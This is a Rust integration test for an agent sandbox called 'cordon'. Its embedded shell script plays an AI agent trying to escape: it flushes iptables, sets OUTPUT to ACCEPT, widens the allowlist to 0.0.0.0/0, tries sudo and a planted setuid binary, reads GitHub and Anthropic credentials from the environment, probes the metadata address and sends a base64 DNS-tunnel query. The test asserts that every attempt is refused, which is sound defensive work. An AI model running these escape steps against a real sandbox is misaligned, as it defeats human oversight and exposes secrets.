//! The whole entrypoint, harden included, as PID 1 of a fresh pid namespace, chrooted into a
//! throw-away root filesystem inside a test world's sandbox network namespace. The agent is a
//! script that tries every way around the sandbox and writes what happened to the workspace.
//!
//! The root is a tmpfs; this machine's /usr and /dev are bind-mounted into it (read-only for
//! /usr) as separate mounts, which harden never enters — so nothing of the test machine is
//! stripped, and the tools the agent tries (iptables, ipset, sudo) are real.

mod harden_scratch;
mod support;

use std::collections::HashMap;
use std::path::Path;
use std::process::Command;

use harden_scratch::{has_capability, mode, setcap, Scratch};
use nix::mount::{mount, MsFlags};
use support::world::*;
use support::{cordon, privileged, testkit};

const AGENT: &str = r#"#!/bin/sh
out=/workspace/report
say() { echo "$1=$2" >> "$out"; }
try() { name=$1; shift; if "$@" >/dev/null 2>&1; then say "$name" done; else say "$name" refused; fi; }
try iptables_flush iptables -F OUTPUT
try iptables_policy iptables -P OUTPUT ACCEPT
try ip6tables_flush ip6tables -F OUTPUT
try ipset_flush ipset flush cordon4-ports
try resolv_conf sh -c 'echo nameserver 192.0.2.53 > /etc/resolv.conf'
try allowlist sh -c 'echo 0.0.0.0/0 >> /etc/cordon/allowlist'
try allowlist_dir sh -c 'echo 0.0.0.0/0 > /etc/cordon/allowlist.d/more'
try sudo sudo -n true
try planted_suid_root /opt/planted/suid-testkit try-root
say planted_suid_mode "$(stat -c %a /opt/planted/suid-testkit)"
say uid "$(id -u)"
say groups "$(id -G)"
say github_token "${GITHUB_TOKEN-absent}"
say anthropic_key "${ANTHROPIC_API_KEY-absent}"
say anthropic_base_url "${ANTHROPIC_BASE_URL-absent}"
say anthropic_auth_token "${ANTHROPIC_AUTH_TOKEN-absent}"
say cordon_user "${CORDON_USER-absent}"
grep -E '^(CapInh|CapPrm|CapEff|CapBnd|CapAmb|NoNewPrivs):' /proc/self/status | tr -d ' \t' | tr ':' '=' >> "$out"
/opt/testkit probe --timeout-ms 1500 "tcp:$ALLOWED:80" "dns:allowed.test@$RESOLVER" "tcp:$ALLOWED:443" \
    "tcp:$BLOCKED:443" "tcp:$METADATA:80" "tcp:$SERVICE:443" "dns:allowed.test@$OTHER_DNS" "dns:c2VjcmV0.tunnel.test@$RESOLVER" \
    | while read -r spec verdict _; do say "$spec" "$verdict"; done
"#;

fn bind_read_only(scratch: &mut Scratch, from: &str, relative: &str) {
    let target = scratch.bind(Path::new(from), relative);
    mount(
        None::<&str>,
        &target,
        None::<&str>,
        MsFlags::MS_REMOUNT | MsFlags::MS_BIND | MsFlags::MS_RDONLY,
        None::<&str>,
    )
    .unwrap_or_else(|e| panic!("remount {} read-only: {e}", target.display()));
}

fn build_root() -> Scratch {
    let mut root = Scratch::new("pipeline");
    bind_read_only(&mut root, "/usr", "usr");
    root.bind(Path::new("/dev"), "dev");
    for (link, target) in [
        ("bin", "usr/bin"),
        ("sbin", "usr/sbin"),
        ("lib", "usr/lib"),
        ("lib64", "usr/lib64"),
    ] {
        root.symlink(link, target);
    }
    for dir in [
        "proc",
        "sys",
        "tmp",
        "home/agent",
        "etc/cordon/allowlist.d",
        "etc/sudoers.d",
    ] {
        root.dir(dir);
    }
    std::fs::set_permissions(
        root.path("tmp"),
        std::os::unix::fs::PermissionsExt::from_mode(0o1777),
    )
    .unwrap();
    harden_scratch::chown(&root.path("home/agent"), 1000, 1000);
    // What the tools and the dynamic loader need from /etc, copied from this machine.
    for file in ["ld.so.cache", "protocols", "services", "nsswitch.conf"] {
        root.file(
            &format!("etc/{file}"),
            &std::fs::read(format!("/etc/{file}")).unwrap(),
            0o644,
        );
    }
    for name in [
        "iptables",
        "ip6tables",
        "iptables-restore",
        "ip6tables-restore",
        "iptables-save",
        "ip6tables-save",
    ] {
        let target = std::fs::read_link(format!("/etc/alternatives/{name}")).unwrap();
        root.symlink(
            &format!("etc/alternatives/{name}"),
            target.to_str().unwrap(),
        );
    }
    root.file(
        "etc/passwd",
        b"root:x:0:0:root:/root:/bin/sh\nagent:x:1000:1000::/home/agent:/bin/sh\n",
        0o644,
    );
    root.file("etc/group", b"root:x:0:\nagent:x:1000:\n", 0o644);
    root.file(
        "etc/resolv.conf",
        format!("nameserver {GATEWAY}\n").as_bytes(),
        0o644,
    );
    root.file("etc/cordon/allowlist", b"allowed.test\n", 0o644);
    // The system CA store the credential gateway verifies the API with.
    root.file(
        "etc/ssl/certs/ca-certificates.crt",
        &std::fs::read("/etc/ssl/certs/ca-certificates.crt").unwrap(),
        0o644,
    );
    root.file(
        "etc/sudoers",
        b"root ALL=(ALL:ALL) ALL\nagent ALL=(ALL) NOPASSWD: ALL\n",
        0o440,
    );
    root.file("opt/cordon", &std::fs::read(cordon()).unwrap(), 0o755);
    root.file("opt/testkit", &std::fs::read(testkit()).unwrap(), 0o755);
    root.file("opt/agent.sh", AGENT.as_bytes(), 0o755);
    // Planted ways back to root, on the root filesystem...
    root.file_as(
        "opt/planted/suid-testkit",
        &std::fs::read(testkit()).unwrap(),
        0o4755,
        (0, 0),
    );
    let cap_file = root.file(
        "opt/planted/cap-testkit",
        &std::fs::read(testkit()).unwrap(),
        0o755,
    );
    setcap(&cap_file);
    // ...and one on a separate mount (the workspace), which harden must not touch.
    let workspace = root.tmpfs("workspace");
    std::fs::set_permissions(
        &workspace,
        std::os::unix::fs::PermissionsExt::from_mode(0o1777),
    )
    .unwrap();
    root.file_as("workspace/suid-on-a-volume", b"#!/bin/sh\n", 0o4755, (0, 0));
    root
}

#[test]
fn the_dropped_user_cannot_get_around_the_sandbox() {
    if !privileged() {
        return;
    }
    // The credential gateway's upstream resolves (nothing listens there: the agent's requests
    // are not what this test is about, its reach is).
    let world = World::new(WorldOpts {
        records: vec![format!("api.anthropic.com={SERVICE}")],
        ..WorldOpts::default()
    });
    let root = build_root();

    // Control: as root, the same tools work inside this root, so a refusal below means something.
    let control = Command::new("ip")
        .args(["netns", "exec", &world.sandbox_ns, "chroot"])
        .arg(&root.root)
        .args(["iptables", "-S", "OUTPUT"])
        .output()
        .unwrap();
    assert!(
        control.status.success(),
        "iptables does not run in the test root: {control:?}"
    );

    let script = format!(
        "mount -t proc proc {root}/proc && mount -t sysfs sysfs {root}/sys && \
         exec chroot {root} /opt/cordon --no-default-profile --user agent -- /opt/agent.sh",
        root = root.root.display()
    );
    let output = Command::new("ip")
        .args([
            "netns",
            "exec",
            &world.sandbox_ns,
            "unshare",
            "--mount",
            "--pid",
            "--fork",
            "sh",
            "-c",
            &script,
        ])
        .env_clear()
        .env(
            "PATH",
            "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin",
        )
        .env("GITHUB_TOKEN", "ghp_secret")
        .env("ANTHROPIC_API_KEY", "sk-test")
        .env("CORDON_USER", "agent")
        .envs([
            ("ALLOWED", ALLOWED),
            ("BLOCKED", BLOCKED),
            ("METADATA", METADATA),
            ("OTHER_DNS", OTHER_DNS),
            ("SERVICE", SERVICE),
            ("RESOLVER", GATEWAY),
        ])
        .output()
        .unwrap();
    let log = String::from_utf8_lossy(&output.stderr);
    eprintln!("{log}");
    assert!(output.status.success(), "cordon exited {}", output.status);
    assert!(log.contains("self-test passed"), "{log}");

    let report: HashMap<String, String> = std::fs::read_to_string(root.path("workspace/report"))
        .expect("the agent ran and wrote its report")
        .lines()
        .filter_map(|line| line.split_once('='))
        .map(|(k, v)| (k.to_string(), v.to_string()))
        .collect();
    eprintln!("{report:#?}");
    let expect = |key: &str, value: &str| {
        assert_eq!(report.get(key).map(String::as_str), Some(value), "{key}");
    };
    for attempt in [
        "iptables_flush",
        "iptables_policy",
        "ip6tables_flush",
        "ipset_flush",
        "resolv_conf",
        "allowlist",
        "allowlist_dir",
        "sudo",
    ] {
        expect(attempt, "refused");
    }
    // try-root exits 0 when every way to uid 0 was refused.
    expect("planted_suid_root", "done");
    expect("planted_suid_mode", "755");
    expect("uid", "1000");
    expect("groups", "1000");
    expect("github_token", "absent");
    // The credential gateway (on: a credential was provided) holds the key.
    expect("anthropic_key", "absent");
    expect(
        "anthropic_auth_token",
        "cordon-credential-gateway-placeholder",
    );
    expect("anthropic_base_url", "http://127.0.0.1:10080");
    assert!(log.contains("credential gateway (uid 65054)"), "{log}");
    assert!(!log.contains("sk-test"), "{log}");
    expect(&format!("tcp:{SERVICE}:443"), "refused");
    expect("cordon_user", "absent");
    for set in ["CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"] {
        expect(set, "0000000000000000");
    }
    expect("NoNewPrivs", "1");
    // The DNS gateway (the default): an allowlisted name's address opens when the agent asks
    // for it, not before; other servers get the agent's questions nowhere but the gateway,
    // which refuses unlisted names.
    expect(&format!("tcp:{ALLOWED}:80"), "refused");
    expect(&format!("dns:allowed.test@{GATEWAY}"), "answered");
    expect(&format!("tcp:{ALLOWED}:443"), "open");
    expect(&format!("tcp:{BLOCKED}:443"), "refused");
    expect(&format!("tcp:{METADATA}:80"), "refused");
    expect(&format!("dns:allowed.test@{OTHER_DNS}"), "answered");
    expect(&format!("dns:c2VjcmV0.tunnel.test@{GATEWAY}"), "error");
    let queries = std::fs::read_to_string(world.path("dns.log")).unwrap_or_default();
    assert!(!queries.contains("tunnel"), "{queries}");

    // Harden, seen from outside: the root's privileged files are stripped, sudoers emptied, the
    // volume's setuid file untouched.
    assert_eq!(mode(&root.path("opt/planted/suid-testkit")) & 0o7777, 0o755);
    assert!(!has_capability(&root.path("opt/planted/cap-testkit")));
    assert_eq!(
        mode(&root.path("workspace/suid-on-a-volume")) & 0o7777,
        0o4755
    );
    let sudoers = std::fs::read_to_string(root.path("etc/sudoers")).unwrap();
    assert!(!sudoers.contains("NOPASSWD"), "{sudoers}");
}
